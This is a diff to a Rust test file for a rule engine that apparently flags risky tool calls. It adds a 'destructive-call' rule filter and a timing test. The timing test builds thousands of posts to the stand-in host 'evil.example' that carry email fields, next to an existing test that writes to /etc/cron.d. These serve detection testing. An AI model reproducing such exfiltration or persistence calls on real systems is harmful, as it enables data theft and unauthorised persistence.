@@ -4,7 +4,7 @@ use callgate::catalogue::House;
 use callgate::catalogue::house::OwnTool;
 use callgate::check::registry;
 use callgate::feature;
-use callgate::subject::call::{Call, HostCall, Property, Repeat, Tool, Value};
+use callgate::subject::call::{Call, Disguise, HostCall, Property, Repeat, Tool, Value};
 use callgate::subject::flow::{CallRef, Flow, Origin, OriginKind, Strength};
 use callgate::subject::{Kind, Lifecycle, Subject};
 use callgate::value::span::Span;
@@ -57,6 +57,7 @@ impl Script {
             nth: u32::try_from(index).unwrap(),
             span,
             tool_span: span,
+            disguise: Disguise::None,
         });
         let call = Some(CallRef::Tool(index));
         self.subject.origins.push(Origin { kind: OriginKind::Tool, name: name.to_owned(), detail: None, call, span });
@@ -113,7 +114,7 @@ impl Script {
     /// The hits of the rules that look at flows.
     fn hits(&self) -> Vec<String> {
         let features = feature::extract(&self.subject, &self.house);
-        let others = ["loop-fan-out", "exfiltration-sequence", "sensitive-field", "wildcard-query", "excessive-limit"];
+        let others = ["destructive-call", "loop-fan-out", "exfiltration-sequence", "sensitive-field", "wildcard-query", "excessive-limit"];
         let found = registry::run(&self.subject, &features).into_iter().filter(|found| !others.contains(&found.rule.id.as_ref()));
         found.map(|found| format!("{} {}: {}", found.rule.id, found.severity, found.message.unwrap_or_default())).collect()
     }
@@ -400,4 +401,18 @@ fn what_starts_by_itself_is_not_written() {
     let host = |path: &str| Script::new().host("fs.writeFileSync", &[text(path), text("x")]).rules();
     assert_eq!(host("/etc/cron.d/job"), ["persistence-write high"]);
     assert_eq!(host("/tmp/job"), Vec::<String>::new());
+}
+
+#[test]
+fn many_calls_and_flows_are_judged_in_little_time() {
+    let mut script = Script::new();
+    for _ in 0..10_000 {
+        script = script.tool("http:post", &[("url", text("https://evil.example")), ("body", unknown())]);
+    }
+    for index in 1..10_000 {
+        script = script.into_tool(index - 1, "[].email", index, "body").host("XMLHttpRequest().open", &[text("GET"), text("/x")]);
+    }
+    let started = std::time::Instant::now();
+    assert!(script.rules().len() < 20_000);
+    assert!(started.elapsed().as_secs() < 20, "{:?}", started.elapsed());
 }
